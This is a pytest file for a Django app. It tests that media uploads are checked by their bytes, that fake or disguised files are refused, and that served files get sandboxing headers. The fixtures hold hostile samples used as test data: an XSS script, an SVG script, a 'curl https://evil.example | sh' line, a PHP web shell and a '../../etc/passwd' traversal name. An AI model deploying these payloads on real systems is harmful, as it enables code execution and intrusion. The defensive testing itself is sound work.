"""Uploads are what their bytes say, whatever their name; files are served sandboxed."""

from __future__ import annotations

import io
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client, RequestFactory
from PIL import Image

from scheduler import media_links
from scheduler.media_serving import SANDBOX, safe_filename, serve_media_file
from scheduler.models import MediaAsset
from tests.conftest import Cast

pytestmark = pytest.mark.django_db

HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
)
SCRIPT = b"#!/bin/sh\ncurl https://evil.example | sh\n"
PHP = b"<?php system($_GET['c']); ?>"
# A JPEG's magic bytes followed by HTML: starts like an image, is not one.
FAKE_JPEG = b"\xff\xd8\xff\xe0" + HTML


def image_bytes(fmt: str = "PNG", trailer: bytes = b"") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), "orange").save(out, fmt)
    return out.getvalue() + trailer


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):  # type: ignore[no-untyped-def]
    settings.MEDIA_ROOT = tmp_path


def upload_api(api: Any, name: str, content: bytes, mime: str = "image/jpeg") -> Any:
    return api.post(
        "/api/v1/media/", {"file": SimpleUploadedFile(name, content, mime)}, format="multipart"
    )


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("photo.jpg", HTML),
        ("photo.jpg", SVG),
        ("photo.svg", SVG),
        ("photo.jpg", SCRIPT),
        ("photo.png", PHP),
        ("photo.jpg", FAKE_JPEG),
        ("clip.mp4", HTML),
    ],
)
def test_a_file_named_like_media_that_is_not_is_refused_everywhere(
    cast: Cast, api: Any, name: str, content: bytes
) -> None:
    response = upload_api(api, name, content)
    assert response.status_code == 400
    assert "file" in response.json()["errors"]

    client = Client()
    client.force_login(cast.role("editor").user)
    page = client.post("/compose/media/", {"file": SimpleUploadedFile(name, content, "image/jpeg")})
    assert page.status_code == 400
    assert page["Content-Type"] == "text/plain; charset=utf-8"
    assert MediaAsset.objects.count() == 0


def test_a_real_image_named_html_is_stored_and_served_as_the_image_it_is(
    cast: Cast, api: Any
) -> None:
    response = upload_api(api, "evil.html", image_bytes("PNG"), "text/html")
    assert response.status_code == 201, response.json()
    asset = MediaAsset.objects.get()
    assert asset.mime_type == "image/png"
    assert asset.original_name == "evil.html"
    assert asset.file.name.endswith("/evil.png")  # a web server types it by extension

    served = Client().get(f"/m/{media_links.sign(asset.pk)}/")
    assert served["Content-Type"] == "image/png"
    assert served["X-Content-Type-Options"] == "nosniff"
    assert served["Content-Security-Policy"] == SANDBOX
    assert served["Content-Disposition"] == 'inline; filename="evil.png"'


def test_an_image_carrying_html_after_its_end_is_still_only_an_image(cast: Cast, api: Any) -> None:
    # Pillow accepts a GIF with bytes after its trailer; the headers are the defence.
    response = upload_api(api, "a.gif", image_bytes("GIF", trailer=HTML))
    assert response.status_code == 201, response.json()
    served = Client().get(f"/m/{media_links.sign(MediaAsset.objects.get().pk)}/")
    assert served["Content-Type"] == "image/gif"
    assert served["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in served["Content-Security-Policy"]


def test_a_stored_file_of_an_unexpected_type_is_only_ever_downloaded(cast: Cast) -> None:
    asset = MediaAsset.objects.create(
        workspace=cast.workspace,
        file=SimpleUploadedFile("old.html", HTML),
        original_name="old.html",
        kind="image",
        mime_type="text/html",  # a row from before these checks, say
        size=len(HTML),
    )
    served = Client().get(f"/m/{media_links.sign(asset.pk)}/")
    assert served["Content-Type"] == "application/octet-stream"
    assert served["Content-Disposition"] == 'attachment; filename="old.bin"'
    assert served["Content-Security-Policy"] == SANDBOX


def test_media_url_files_get_the_same_headers(tmp_path: Any) -> None:
    (tmp_path / "a.png").write_bytes(image_bytes())
    response = serve_media_file(RequestFactory().get("/media/a.png"), "a.png", str(tmp_path))
    assert response["Content-Type"] == "image/png"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == SANDBOX


@pytest.mark.parametrize(
    ("name", "mime", "expected"),
    [
        ("holiday.jpeg", "image/jpeg", "holiday.jpg"),
        ("x.html", "image/webp", "x.webp"),
        ("../../etc/passwd", "video/mp4", "passwd.mp4"),
        ("clip.MOV", "video/quicktime", "clip.mov"),
        ('a"b<c>.png', "image/png", "abc.png"),
        ("", "video/webm", "upload.webm"),
    ],
)
def test_stored_names_take_the_extension_of_their_checked_type(
    name: str, mime: str, expected: str
) -> None:
    assert safe_filename(name, mime) == expected
